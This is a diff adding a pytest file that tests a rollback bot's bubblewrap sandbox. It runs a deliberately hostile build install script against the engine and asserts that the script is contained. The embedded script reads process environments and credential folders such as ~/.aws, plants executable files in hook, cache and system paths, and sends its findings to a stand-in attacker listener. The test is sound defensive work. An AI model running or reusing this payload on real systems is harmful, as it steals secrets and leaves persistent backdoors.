@@ -1,0 +1,175 @@
+"""A rollback's code never touches the bot: attacks mounted by a hostile build, as an attacker would ship
+it, against the real engine with its jobs in bubblewrap (fast tier: the build's install step is a script
+committed in the target commit, run the way npm runs a package's install script)."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import socket
+import sys
+import threading
+from pathlib import Path
+
+import git
+import pytest
+
+from bot.adapters.sandbox import Sandbox, SandboxUnavailable, choose, hidden_for
+from bot.core.config import SandboxMode
+from tests.support.fast_service import SERVERLESS_YML, fast_package, handler
+from tests.support.gitrepo import ServiceRepo
+
+needs_bwrap = pytest.mark.skipif(choose(SandboxMode.AUTO, [])[0] is None,
+                                 reason="bubblewrap cannot run here (./scripts/test installs it on Debian)")
+
+SLACK_TOKEN = "xoxb-test-token-123456"  # the engine factory's bot token
+REPO_TOKEN = "ghs_" + "RepoInstallationToken987"
+
+HOSTILE = r'''
+import glob, json, os, socket, sys
+found = {"environ": {}, "files": {}, "wrote": [], "procs": sorted(p for p in os.listdir("/proc") if p.isdigit())}
+for path in glob.glob("/proc/*/environ"):
+    try:
+        found["environ"][path] = open(path, "rb").read().decode("utf-8", "replace")
+    except OSError as exc:
+        found["environ"][path] = f"unreadable: {exc}"
+here = os.getcwd()
+roots = [os.environ.get("HOME", "/"), os.path.expanduser("~/.aws"), "/root", "/home", "/tmp", "/var/lib",
+         *[os.path.dirname(here.rsplit("/jobs/", 1)[0] + "/x")]]
+for root in roots:
+    for dirpath, dirs, files in os.walk(root):
+        dirs[:] = [d for d in dirs if d not in ("lib", "include", "share", "site-packages")]  # toolchains
+        for name in files[:50]:
+            path = os.path.join(dirpath, name)
+            try:
+                found["files"][path] = open(path, "rb").read(2000).decode("utf-8", "replace")
+            except OSError:
+                pass
+# and try to leave something behind where the next job, or the bot, would run it
+for target in sys.argv[2:]:
+    try:
+        os.makedirs(os.path.dirname(target), exist_ok=True)
+        with open(target, "w") as f:
+            f.write("#!/bin/sh\necho pwned > /tmp/pwned\n")
+        os.chmod(target, 0o755)
+        found["wrote"].append(target)
+    except OSError as exc:
+        found["wrote"].append(f"refused {target}: {exc.__class__.__name__}")
+s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
+s.sendall(json.dumps(found).encode())
+s.close()
+'''
+
+
+class Listener:
+    """What the attacker's server on 127.0.0.1 received."""
+
+    def __init__(self):
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.port = self.sock.getsockname()[1]
+        self.got: list[dict] = []
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            chunks = []
+            while chunk := conn.recv(65536):
+                chunks.append(chunk)
+            conn.close()
+            self.got.append(json.loads(b"".join(chunks)))
+
+
+def hostile_service(root: Path) -> tuple[Path, dict[str, str], dict[str, Path]]:
+    """A service whose newer build is fine and whose older build (the rollback's target) ships the attack."""
+    work = ServiceRepo(root / "work")
+    commits = {"v1": work.commit("Hello v1, with a build script", {
+        "serverless.yml": SERVERLESS_YML, "handler.js": handler("v1"), "package.json": "{}",
+        "scripts/install.py": HOSTILE})}
+    commits["v2"] = work.commit("Make hello say v2", {"handler.js": handler("v2")})
+    origin = root / "origin.git"
+    git.Repo.clone_from(work.path, origin, bare=True).close()
+    return origin, commits, {n: fast_package(root / f"pkg-{n}", n) for n in commits}
+
+
+@needs_bwrap
+def test_a_hostile_install_script_finds_no_secret_and_leaves_nothing_behind(aws_env, s3, tmp_path, monkeypatch):
+    from tests.conftest import engine_factory
+    from tests.support.fast_service import DEPLOY_COMMAND, deploy
+
+    listener = Listener()
+    origin, commits, packages = hostile_service(tmp_path / "svc")
+    data = tmp_path / "data"
+    cache = data / "plugin-cache"
+    mirror_hooks = data / "mirrors"
+    outside = tmp_path / "outside" / "planted.sh"
+    bot_home = tmp_path / "bot-home"
+    (bot_home / ".aws").mkdir(parents=True)
+    (bot_home / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = HomeSecretKey42\n")
+    make, engines = engine_factory(
+        aws_env, tmp_path, origin, ROLLBACK_DEPLOY_COMMAND=DEPLOY_COMMAND,
+        ROLLBACK_INSTALL_COMMAND=f"{sys.executable} scripts/install.py {listener.port} {outside} "
+                                 f"{data}/planted.sh {cache}/poison/node_modules/x.js "
+                                 f"{mirror_hooks}/hooks/post-checkout {sys.prefix}/bin/planted /usr/local/bin/planted",
+        ROLLBACK_SANDBOX="required", SLACK_SIGNING_SECRET="signing-secret-abc123", HOME=str(bot_home))
+    # the bot's own process has its secrets in its environment, as on a real host
+    monkeypatch.setenv("SLACK_BOT_TOKEN", SLACK_TOKEN)
+    monkeypatch.setenv("SLACK_SIGNING_SECRET", "signing-secret-abc123")
+    try:
+        engine = make(data_dir=data)
+        for name in ("v1", "v2"):
+            engine.artifacts.publish("prod", commits[name], packages[name], build_id=f"b-{name}", author="Ana",
+                                     message=name)
+            deploy(packages[name])
+            engine.artifacts.mark_deployed("prod", commits[name], f"b-{name}", by="ci")
+        job = engine.jobs.wait(engine.jobs.start(engine.plan("prod", "b-v1"), "U-ANA", "U-BO"), timeout=120)
+    finally:
+        for e in engines:
+            e.jobs.shutdown()
+    assert job.state == "succeeded", job.reason
+    assert len(listener.got) == 1, "the install script ran and reached the network"
+    report = listener.got[0]
+    seen = json.dumps(report)
+    for secret in (SLACK_TOKEN, "signing-secret-abc123", aws_env["AWS_SECRET_ACCESS_KEY"], "HomeSecretKey42"):
+        assert secret not in seen, f"the build's install script read {secret!r}"
+    assert len(report["procs"]) <= 3, f"it saw other processes: {report['procs']}"  # bwrap, itself
+    assert not any("/data/" in p and "/jobs/" not in p for p in report["files"]), "it read the bot's data folder"
+    # what the bot and the host run is read-only to it; the rest it wrote into a view that vanished with it
+    assert [w for w in report["wrote"] if w.startswith("refused ")] == [
+        f"refused {sys.prefix}/bin/planted: OSError", "refused /usr/local/bin/planted: OSError"], report["wrote"]
+    assert not Path(sys.prefix, "bin", "planted").exists() and not Path("/usr/local/bin/planted").exists()
+    assert not outside.exists() and not (data / "planted.sh").exists()
+    assert not (cache / "poison").exists() and not list(data.glob("mirrors/**/post-checkout"))
+
+
+def test_the_sandbox_never_mounts_the_data_folder_or_the_homes_secrets(tmp_path):
+    home = tmp_path / "home"
+    (home / "bin").mkdir(parents=True)
+    (home / ".pyenv" / "versions" / "3" / "bin").mkdir(parents=True)
+    data = tmp_path / "data"
+    (data / "jobs" / "1").mkdir(parents=True)
+    box = Sandbox("/usr/bin/bwrap", tuple(hidden_for(data, home)))
+    env = {"PATH": f"{home}:{home}/.pyenv/versions/3/bin:{data}/bin:/usr/bin", "AWS_SECRET_ACCESS_KEY": "s3cr3t"}
+    argv = box.command(["node", "x.js"], cwd=data / "jobs" / "1", writable=data / "jobs" / "1", env=env)
+    mounted = [argv[i + 1] for i, a in enumerate(argv) if a in ("--ro-bind", "--bind")]
+    assert str(home / ".pyenv" / "versions" / "3") in mounted  # a toolchain under the home is fine…
+    assert str(home) not in mounted and str(data) not in mounted  # …the home and the data folder never
+    assert str(data / "jobs" / "1") in mounted
+    assert "s3cr3t" not in " ".join(argv)  # values reach it through its environment, not its arguments
+
+
+def test_required_without_bubblewrap_stops_and_says_what_to_install(tmp_path):
+    with pytest.raises(SandboxUnavailable) as refused:
+        choose(SandboxMode.REQUIRED, [tmp_path], bwrap="")
+    assert "apt-get install bubblewrap" in str(refused.value) and "ROLLBACK_SANDBOX=off" in str(refused.value)
+    box, warning = choose(SandboxMode.AUTO, [tmp_path], bwrap="")
+    assert box is None and "unsandboxed" in warning
+    fake = tmp_path / "bwrap"
+    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
+    fake.chmod(0o755)
+    with pytest.raises(SandboxUnavailable, match="No permissions to create new namespace"):
+        choose(SandboxMode.REQUIRED, [tmp_path], bwrap=str(fake))
+    assert shutil.which("true")
